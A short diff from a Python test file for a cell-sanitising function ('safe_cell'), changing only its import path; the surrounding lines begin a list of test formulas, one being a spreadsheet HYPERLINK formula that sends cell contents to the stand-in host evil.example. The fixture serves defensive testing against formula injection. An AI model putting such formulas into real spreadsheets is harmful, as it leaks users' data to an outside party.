@@ -5,7 +5,7 @@ import io
 
 import pytest
 
-from voxpop.transfer.tables import safe_cell
+from voxpop.tables import safe_cell
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
